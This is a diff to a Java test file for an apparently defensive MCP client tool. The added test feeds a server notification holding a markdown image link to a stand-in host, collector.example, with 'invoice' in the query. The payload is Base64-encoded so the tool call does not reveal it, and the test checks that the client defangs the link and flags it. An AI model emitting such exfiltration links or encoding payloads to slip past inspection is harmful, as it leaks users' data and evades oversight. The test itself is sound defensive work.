@@ -1,10 +1,12 @@
 package dev.stoplock.app;
 
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.util.Arrays;
+import java.util.Base64;
 import java.util.List;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
@@ -216,6 +218,20 @@ class BadMessageTest {
                 .satisfies(each ->
                         assertThat(each.path("sentence").asText())
                                 .contains("no more of these are recorded"));
+    }
+
+    @Test
+    void aLinkInWhatTheServerTellsWhileItWorksIsMadeUnusable() throws Exception {
+        McpClient client = rig.join(Rig.SERVER);
+        String told =
+                "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\",\"params\":"
+                        + "{\"level\":\"info\",\"data\":\"![x](https://collector.example/?invoice)\"}}";
+        // coded, or the call would have named it
+        String coded = Base64.getEncoder().encodeToString(told.getBytes(UTF_8));
+        client.tool("do", Rig.asking("[{\"op\":\"print-coded\",\"text\":\"" + coded + "\"}]"));
+        assertThat(client.other("hxxps").at("/params/data").asText())
+                .isEqualTo("![x](hxxps[:]//collector[.]example/?invoice)");
+        assertFound("client.link");
     }
 
     @Test
